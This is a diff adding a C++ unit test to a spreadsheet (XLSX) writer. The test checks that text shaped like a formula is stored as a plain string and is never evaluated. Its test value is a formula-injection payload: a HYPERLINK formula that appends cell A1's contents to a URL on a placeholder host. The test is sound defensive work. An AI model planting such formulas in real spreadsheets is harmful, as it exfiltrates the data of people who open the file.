@@ -317,6 +317,20 @@ TEST(XlsxCells, AFigureASpreadsheetCannotHoldExactlyIsWrittenAsText) {
   EXPECT_EQ(book["sheets"][0]["rows"][1][1][1], kCount);
 }
 
+// A name that is a formula stays a string: the spreadsheet shows it and
+// never runs it (SECURITY.md, "Documents").
+TEST(XlsxCells, TextThatLooksLikeAFormulaIsAString) {
+  testing::TempDir tmp;
+  const std::string file = tmp / "formula.xlsx";
+  const std::string formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Nguyễn Văn A\")";
+  Sheet s{.name = "Học viên", .header = {"Họ và tên"}};
+  s.rows.push_back({Cell::Text(formula)});
+  ASSERT_TRUE(WriteWorkbook(file, {s}, Lang::kVi).ok());
+  Json book = Dump(file);
+  EXPECT_EQ(book["sheets"][0]["rows"][1][0][0], formula);
+  EXPECT_EQ(book["sheets"][0]["rows"][1][0][3], "s");
+}
+
 TEST(XlsxCells, ASheetNameExcelRefusesIsRefusedAndNoFileIsWritten) {
   testing::TempDir tmp;
   const std::string file = tmp / "bad.xlsx";
